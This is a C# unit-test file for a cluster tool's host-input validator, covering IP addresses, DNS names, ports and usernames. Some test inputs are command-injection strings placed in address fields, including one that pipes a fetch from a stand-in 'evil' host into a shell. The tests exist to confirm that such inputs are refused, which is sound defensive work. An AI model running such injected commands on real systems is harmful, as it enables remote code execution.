using KubeHa.Core.Hosts;

namespace KubeHa.Core.Tests.Hosts;

public sealed class HostInputRulesTests
{
    [Theory]
    [InlineData("10.0.0.1")]
    [InlineData("192.168.122.255")]
    [InlineData("::1")]
    [InlineData("fe80::1")]
    [InlineData("[2001:db8::10]")]
    [InlineData("cp-1")]
    [InlineData("cp-1.lab.example.com")]
    [InlineData("localhost")]
    public void CheckAddress_ValidIpOrDnsName_ReturnsNull(string address) => Assert.Null(HostInputRules.CheckAddress(address));

    [Theory]
    [InlineData("")]
    [InlineData("10.0.0")]
    [InlineData("10.0.0.256")]
    [InlineData("1")]
    [InlineData("-bad.example.com")]
    [InlineData("under_score.example.com")]
    [InlineData("has space")]
    [InlineData("a..b")]
    [InlineData("2001:db8::zz")]
    public void CheckAddress_Invalid_ReturnsMessage(string address) => Assert.NotNull(HostInputRules.CheckAddress(address));

    [Theory]
    [InlineData("fe80::1%$(id)", "scope id")]
    [InlineData("fe80::1%eth0", "scope id")]
    [InlineData("::ffff:10.1.1.5%;curl${IFS}evil|sh;#", "scope id")]
    [InlineData("010.0.0.1", "leading zero")]
    [InlineData("10.0.0.01", "leading zero")]
    [InlineData("0xa.0.0.1", "non-standard form (10.0.0.1)")]
    [InlineData("0xa.0xf4.0.0", "non-standard form")]
    [InlineData("0x0a000001", "non-standard form (10.0.0.1)")]
    [InlineData("example.123", "non-standard form")]
    [InlineData("10.1", "not a valid IPv4 address")]
    [InlineData("167772161", "not a valid IPv4 address")]
    [InlineData("10.0.0.1;id", "not a valid IP address or DNS name")]
    [InlineData("10.0.0.1\nid", "not a valid IP address or DNS name")]
    [InlineData("ｎode1.example.com", "not a valid IP address or DNS name")]
    [InlineData("[fe80::1", "not a valid IPv6 address")]
    [InlineData("fe80::1 ", null)]
    public void CheckAddress_AmbiguousOrHostileForms_RefusedWithTheReason(string address, string? reason)
    {
        var message = HostInputRules.CheckAddress(address);
        if (reason is null)
        {
            Assert.Null(message);
            return;
        }

        Assert.NotNull(message);
        Assert.Contains(reason, message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', message);
    }

    [Theory]
    [InlineData(" 10.0.0.1 ", "10.0.0.1")]
    [InlineData("[2001:DB8:0:0::10]", "2001:db8::10")]
    [InlineData("FE80:0000::1", "fe80::1")]
    [InlineData("CP-1.Lab.Example.COM", "cp-1.lab.example.com")]
    public void CanonicalAddress_ValidInput_StoredForm(string input, string canonical) =>
        Assert.Equal(canonical, HostInputRules.CanonicalAddress(input));

    [Theory]
    [InlineData(0, false)]
    [InlineData(1, true)]
    [InlineData(22, true)]
    [InlineData(65535, true)]
    [InlineData(65536, false)]
    public void CheckPort_Range_AcceptsOneTo65535(int port, bool valid) => Assert.Equal(valid, HostInputRules.CheckPort(port) is null);

    [Theory]
    [InlineData("root", true)]
    [InlineData("kube_ops", true)]
    [InlineData("ci-runner.1", true)]
    [InlineData("_svc", true)]
    [InlineData("machine$", true)]
    [InlineData("1user", false)]
    [InlineData("-user", false)]
    [InlineData("us er", false)]
    [InlineData("user:x", false)]
    [InlineData("", false)]
    [InlineData("a23456789012345678901234567890123", false)]
    public void CheckUsername_LinuxRules(string username, bool valid) => Assert.Equal(valid, HostInputRules.CheckUsername(username) is null);
}
